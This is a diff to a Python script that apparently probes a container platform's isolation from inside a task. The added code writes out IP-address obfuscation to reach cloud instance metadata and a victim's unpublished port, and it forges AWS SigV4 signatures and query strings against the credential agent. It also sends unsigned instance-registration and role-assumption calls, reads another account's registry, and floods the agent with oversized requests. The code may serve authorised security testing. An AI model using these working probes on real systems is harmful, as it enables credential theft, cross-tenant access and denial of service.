@@ -22,6 +22,17 @@ import uuid
 AGENT = "http://169.254.170.2"
 SECONDS = 3
 
+# Signatures that say all that one says, and are of nobody: the agent lets these pass to the platform.
+SCOPE = "AKIA0000000000000000/20260101/us-east-1/ecs/aws4_request"
+NOBODYS = {
+    "X-Amz-Date": "20260101T000000Z",
+    "Authorization": f"AWS4-HMAC-SHA256 Credential={SCOPE}, SignedHeaders=host;x-amz-date, Signature={'0' * 64}",
+}
+NOBODYS_QUERY = (
+    f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={SCOPE.replace('/', '%2F')}&X-Amz-Date=20260101T000000Z"
+    f"&X-Amz-Expires=60&X-Amz-SignedHeaders=host&X-Amz-Signature={'0' * 64}"
+)
+
 
 def say(name, outcome):
     print(f"{name}: {outcome}", flush=True)
@@ -144,11 +155,33 @@ def others_credentials(keys):
     say("own credentials after it", "given" if status == 200 else f"status {status}")
 
 
+def spellings(address):
+    """An address of IPv4 in each way that the C library reads one; the last two are of IPv6."""
+    a, b, c, d = (int(part) for part in address.split("."))
+    whole = a << 24 | b << 16 | c << 8 | d
+    return [
+        address,
+        str(whole),
+        hex(whole),
+        f"0{whole:o}",
+        f"{a:#x}.{b:#x}.{c:#x}.{d:#x}",
+        f"0{a:o}.0{b:o}.0{c:o}.0{d:o}",
+        f"{a}.{b}.{c << 8 | d}",
+        f"::ffff:{address}",
+        f"::ffff:{whole >> 16:x}:{whole & 0xFFFF:x}",
+    ]
+
+
 def neighbours():
     time.sleep(2)  # until the side container listens
     reach("another's unpublished port", os.environ["VICTIM_IP"], 8000)
     reach("own side container", "side", 8000)
-    reach("instance metadata", "169.254.169.254", 80)
+    for spelled in spellings("169.254.169.254") + ["fd00:ec2::254"]:
+        reach(f"instance metadata as {spelled}", spelled, 80)
+    for spelled in spellings(os.environ["VICTIM_IP"]):
+        reach(f"another's unpublished port as {spelled}", spelled, 8000)
+    for spelled in spellings("169.254.170.2")[:-2]:
+        reach(f"the agent as {spelled}", spelled, 80)
     for host in (own_gateway(), os.environ["VICTIM_GATEWAY"], os.environ["HOST_IP"], "127.0.0.1"):
         reach(f"the platform at {host}", host, os.environ["PLATFORM_PORT"])
         reach(f"a service of the host at {host}", host, os.environ["HOST_SERVICE"])
@@ -205,6 +238,33 @@ def confinement():
         say("a disk of the host", "refused")
 
 
+def post(path, headers, body):
+    connection = http.client.HTTPConnection("169.254.170.2", 80, timeout=20)
+    try:
+        connection.request("POST", path, body, headers)
+        return connection.getresponse().status
+    except OSError as e:
+        return type(e).__name__
+
+
+def unsigned(ssm):
+    """The calls that the platform answers without a signature, each behind what looks like one."""
+    local = "127.0.0.1:" + os.environ["PLATFORM_PORT"]
+    register = {"Host": local, "Content-Type": "application/x-amz-json-1.1", "X-Amz-Target": ssm + "RegisterManagedInstance"}
+    claim = json.dumps({"ActivationId": str(uuid.uuid4()), "ActivationCode": "A" * 20})
+    identity = {"Host": local, "Content-Type": "application/x-www-form-urlencoded"}
+    form = "Action=AssumeRoleWithWebIdentity&Version=2011-06-15&RoleArn=arn:aws:iam::1:role/r&RoleSessionName=s&WebIdentityToken=t"
+    for what, headers, body in (("registering as a machine", register, claim), ("a web identity", identity, form)):
+        for how, path, more in (
+            ("unsigned", "/", {}),
+            ("a signature's name", "/?X-Amz-Signature=1", {}),
+            ("a name in a name", "/?aX-Amz-Signature=1", {}),
+            ("nobody's signature", "/", NOBODYS),
+            ("nobody's query", "/?" + NOBODYS_QUERY, {}),
+        ):
+            say(f"{what}, {how}", post(path, {**headers, **more}, body))
+
+
 def platform(keys):
     if not keys:
         say("platform", "no credentials")
@@ -224,6 +284,9 @@ def platform(keys):
     image = {"repositoryName": "attack/secret", "registryId": stranger, "imageIds": [{"imageTag": "1"}]}
     aws("a repository of another account", keys, "ecr", ecr + "BatchGetImage", image)
     aws("its images", keys, "ecr", ecr + "ListImages", {"repositoryName": "attack/secret", "registryId": stranger})
+    own = {"repositoryName": "attack/own", "imageIds": [{"imageTag": "1"}]}
+    aws("a repository of its own account", keys, "ecr", ecr + "BatchGetImage", own)
+    aws("its own images", keys, "ecr", ecr + "ListImages", {"repositoryName": "attack/own"})
     token = aws("a token of the registry", keys, "ecr", ecr + "GetAuthorizationToken", {})
     password = (token.get("authorizationData") or [{}])[0].get("authorizationToken", "")
     for name, path in (
@@ -232,8 +295,9 @@ def platform(keys):
     ):
         status, text = get(AGENT + path, {"Authorization": "Basic " + password})
         mark = "&" if "?" in path else "?"
-        again, _ = get(AGENT + path + mark + "X-Amz-Signature=1", {"Authorization": "Basic " + password})
+        again, _ = get(AGENT + path + mark + NOBODYS_QUERY)
         say(name, f"{status} {again}")
+    unsigned(ssm)
     cluster = {"cluster": "attack"}
     stop = {"cluster": "attack", "task": os.environ["VICTIM_TASK"], "status": "STOPPED"}
     aws("an allowed call of ECS", keys, "ecs", ecs + "ListTasks", cluster)
@@ -249,7 +313,7 @@ def platform(keys):
         aws(operation + " with headers", keys, "ecs", ecs + operation, body, forged)
     for path in ("/acs/ws", "/acs/host", "/tacs/ws", "/_holdfast/health", "/status", "/credentials"):
         upgrade = {
-            "Authorization": "AWS4-HMAC-SHA256 Credential=x",
+            **NOBODYS,
             "Connection": "Upgrade",
             "Upgrade": "websocket",
             "Sec-WebSocket-Version": "13",
@@ -265,7 +329,8 @@ def flood():
         try:
             s = socket.create_connection(("169.254.170.2", 80), timeout=SECONDS)
             size = 2 * 1024 * 1024 if i % 2 else 16 * 1024 * 1024
-            head = f"POST / HTTP/1.1\r\nHost: x\r\nAuthorization: AWS4-HMAC-SHA256 x\r\nContent-Length: {size}\r\n\r\n"
+            lines = "".join(f"{n}: {v}\r\n" for n, v in NOBODYS.items())
+            head = f"POST / HTTP/1.1\r\nHost: x\r\n{lines}Content-Length: {size}\r\n\r\n"
             s.sendall(head.encode() + b"x" * 60000)
             open_ones.append(s)
         except OSError:
